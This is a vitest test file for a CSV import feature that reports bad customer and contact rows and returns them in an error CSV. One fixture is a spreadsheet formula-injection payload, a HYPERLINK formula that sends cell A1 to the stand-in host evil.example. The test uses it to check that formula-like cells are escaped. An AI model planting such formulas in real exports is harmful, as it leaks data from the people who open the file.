/**
 * Rows that cannot be imported: each reason is shown in the preview with its row number and
 * column, the other rows are imported, and the rows left out come back as a CSV in the thread
 * (the original cells plus an Error column) that is safe to open in a spreadsheet.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ADMIN, startTestApp, type TestApp } from "../support/app-harness.js";
import {
  buttonsOf,
  csvText,
  importFile,
  pressImport,
  previewCounts,
  readCsv,
  resultCounts,
  tableCounts,
  upload,
  uploadForPreview,
  verdict,
} from "../support/csv-fixtures.js";

let app: TestApp;
beforeEach(async () => {
  app = await startTestApp();
  await importFile(app, "existing.csv", csvText(["Customer Name", "Domains"], [["Owner Co", "owned.com"], ["Acme Dental", "acme.com"]]));
});
afterEach(async () => app.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const LONG_NAME = "L".repeat(121);

describe("customer rows with errors", () => {
  const header = ["Customer Name", "Domains", "Phone", "Notes", "SLA", "Alert Profile"];
  const rows = [
    /* 2 */ ["", "nameless.com", "", HYPERLINK, "", ""],
    /* 3 */ ["Bad Domain Co", "bad_domain!", "+39 06 1234", "", "", ""],
    /* 4 */ ["Email Domain Co", "info@acme-mail.com", "", "@SUM(1+1)", "", ""],
    /* 5 */ ["Taken Co", "owned.com", "", "", "", ""],
    /* 6 */ ["Dup Co", "dup.com", "", "", "", ""],
    /* 7 */ [" dup co ", "", "", "-2+3", "", ""],
    /* 8 */ ["Sla Co", "", "", "", "Platinum", ""],
    /* 9 */ ["Profile Co", "", "", "", "", "Nope"],
    /* 10 */ [LONG_NAME, "", "", "", "", ""],
    /* 11 */ ["Shared A", "shared.com", "", "", "", ""],
    /* 12 */ ["Shared B", "shared.com", "", "", "", ""],
    /* 13 */ ["Good Co", "good.com", "", "", "standard", ""],
  ];
  const expected: [row: number, column: string, reason: string][] = [
    [2, "Customer Name", "Customer Name is empty. Fill it in, or delete the row."],
    [3, "Domains", '"bad_domain!" is not a valid domain. Write it like example.com.'],
    [4, "Domains", '"info@acme-mail.com" is an email address, not a domain. Keep only the part after @.'],
    [5, "Domains", "owned.com already belongs to the customer Owner Co. A domain can belong to one customer only."],
    [7, "Customer Name", 'Customer "dup co" is also in row 6. Keep one of the two rows.'],
    [8, "SLA", 'There is no SLA named "Platinum".'],
    [9, "Alert Profile", 'There is no alert profile named "Nope".'],
    [10, "Customer Name", "Customer Name is 121 characters long; at most 120 are allowed. Shorten it."],
    [12, "Domains", "shared.com is also given to another customer in row 11. A domain can belong to one customer only."],
  ];

  it("lists each reason with row and column in the preview, imports the other rows, and uploads the rest as an error CSV", async () => {
    const preview = await uploadForPreview(app, { name: "customers.csv", content: csvText(header, rows) });
    expect(previewCounts(preview.text)).toEqual({ rows: 12, create: 3, update: 0, unchanged: 0, errors: 9 });
    expect(preview.text).toContain("*Rows with errors:*");
    for (const [row, column, reason] of expected) expect(preview.text).toContain(`• Row ${row}, ${column}: ${reason}`);

    const done = await pressImport(app, preview);
    expect(resultCounts(done.text)).toEqual({ created: 3, updated: 0, unchanged: 0, failed: 9 });
    expect((await app.db.customer.findMany({ select: { name: true }, orderBy: { name: "asc" } })).map((c) => c.name)).toEqual([
      "Acme Dental", "Dup Co", "Good Co", "Owner Co", "Shared A",
    ]);
    const owned = await app.db.customerDomain.findUniqueOrThrow({ where: { domain: "owned.com" }, include: { customer: true } });
    expect(owned.customer.name).toBe("Owner Co");

    const errorCsv = done.errorCsv;
    expect(errorCsv).toMatchObject({ filename: "customers-errors.csv", channel: preview.channel, threadTs: preview.threadTs });
    expect(errorCsv?.initialComment).toContain("9 rows could not be imported");
    const [errorHeader, ...errorRows] = readCsv(errorCsv?.content ?? "");
    expect(errorHeader).toEqual([...header, "Error"]);
    expect(errorRows.map((r) => r.at(-1))).toEqual(expected.map(([, , reason]) => expect.stringContaining(reason) as unknown as string));
    // The original cells, with formula-like cells made text so a spreadsheet does not run them.
    expect(errorRows[0]?.slice(0, -1)).toEqual(["", "nameless.com", "", `'${HYPERLINK}`, "", ""]);
    expect(errorRows[1]?.slice(0, -1)).toEqual(["Bad Domain Co", "bad_domain!", "'+39 06 1234", "", "", ""]);
    expect(errorRows[2]?.[3]).toBe("'@SUM(1+1)");
    expect(errorRows[4]?.[3]).toBe("'-2+3");
    expect(errorRows[7]?.[0]).toBe(LONG_NAME);
  });

  it("the error CSV, fixed and uploaded again, imports its rows with the formula-like cells as they were in the original file", async () => {
    const first = await importFile(app, "customers.csv", csvText(header, rows));
    const [errorHeader, ...errorRows] = readCsv(first.errorCsv?.content ?? "");
    const [nameless = [], badDomain = []] = errorRows;
    nameless[0] = "Named Co";
    badDomain[1] = "bad-domain.com";
    const fixed = [nameless, badDomain];
    const again = await importFile(app, "customers-errors.csv", csvText(errorHeader ?? [], fixed));
    expect(again.preview.text).toContain("Columns ignored (not recognised): Error");
    expect(resultCounts(again.text)).toEqual({ created: 2, updated: 0, unchanged: 0, failed: 0 });
    expect(await app.db.customer.findFirstOrThrow({ where: { name: "Named Co" } })).toMatchObject({ notes: HYPERLINK });
    expect(await app.db.customer.findFirstOrThrow({ where: { name: "Bad Domain Co" } })).toMatchObject({ phone: "+39 06 1234" });
  });

  it("shows the first 10 problems of many, counts them all, and puts every failed row in the error CSV", async () => {
    const many = Array.from({ length: 25 }, (_, i) => ["", `d${i}.com`]);
    const preview = await uploadForPreview(app, { name: "many.csv", content: csvText(["Customer Name", "Domains"], [["Fine Co", ""], ...many]) });
    expect(preview.text).toContain("*First 10 of 25 rows with errors:*");
    expect(preview.text.match(/• Row \d+, /g)).toHaveLength(10);
    const done = await pressImport(app, preview);
    expect(readCsv(done.errorCsv?.content ?? "")).toHaveLength(26);
  });
});

describe("a file where every row has an error", () => {
  it("offers Cancel but no Import button, and the preview lists the rows", async () => {
    const v = await verdict(app, await upload(app, { name: "bad.csv", content: csvText(["Customer Name", "Domains"], [["", "a.com"], ["Owner Co 2", "owned.com"]]) }));
    expect(previewCounts(v.text)).toEqual({ rows: 2, create: 0, update: 0, unchanged: 0, errors: 2 });
    expect(v.text).toContain("• Row 3, Domains: owned.com already belongs to the customer Owner Co.");
    expect(buttonsOf(v.message)).toEqual(["import_cancel"]);
  });
});

describe("contact rows with errors", () => {
  const header = ["Customer Name", "First Name", "Last Name", "Email", "Primary Contact"];
  const rows = [
    /* 2 */ ["Acme Dental", "Anna", "Rossi", "anna(at)acme.com", ""],
    /* 3 */ ["Nobody Inc", "Ben", "Smith", "ben@nobody.com", ""],
    /* 4 */ ["Acme Dental", "Carl", "Berg", "carl@acme.com", ""],
    /* 5 */ ["acme dental", "Carl", "Berg", "CARL@acme.com", ""],
    /* 6 */ ["Acme Dental", "", "Nofirst", "nofirst@acme.com", ""],
    /* 7 */ ["Acme Dental", "Dan", "Long", "dan@acme.com", "maybe"],
    /* 8 */ ["Acme Dental", "Eve", "E".repeat(121), "eve@acme.com", ""],
  ];
  const expected: [row: number, column: string, reason: string][] = [
    [2, "Email", 'Email "anna(at)acme.com" is not a valid email address.'],
    [3, "Customer Name", 'There is no customer named "Nobody Inc". Import the customers first, or fix the name.'],
    [5, "Email", 'Email "CARL@acme.com" for customer "acme dental" is also in row 4.'],
    [6, "First Name", "First Name is empty."],
    [7, "Primary Contact", 'Primary Contact "maybe" is not yes or no.'],
    [8, "Last Name", "Last Name is 121 characters long; at most 120 are allowed."],
  ];

  it("lists each reason with row and column in the preview and the error CSV, and imports the valid contact", async () => {
    const preview = await uploadForPreview(app, { name: "contacts.csv", content: csvText(header, rows) });
    expect(previewCounts(preview.text)).toEqual({ rows: 7, create: 1, update: 0, unchanged: 0, errors: 6 });
    for (const [row, column, reason] of expected) expect(preview.text).toContain(`• Row ${row}, ${column}: ${reason}`);

    const done = await pressImport(app, preview);
    expect(resultCounts(done.text)).toEqual({ created: 1, updated: 0, unchanged: 0, failed: 6 });
    expect(await app.db.contact.findMany({ select: { email: true, createdBy: true } })).toEqual([{ email: "carl@acme.com", createdBy: ADMIN }]);
    const [errorHeader, ...errorRows] = readCsv(done.errorCsv?.content ?? "");
    expect(errorHeader).toEqual([...header, "Error"]);
    expect(errorRows.map((r) => r.slice(0, -1))).toEqual([rows[0], rows[1], rows[3], rows[4], rows[5], rows[6]]);
    errorRows.forEach((r, i) => expect(r.at(-1)).toContain(expected[i]?.[2]));
    expect(await tableCounts(app)).toMatchObject({ customers: 2 });
  });
});
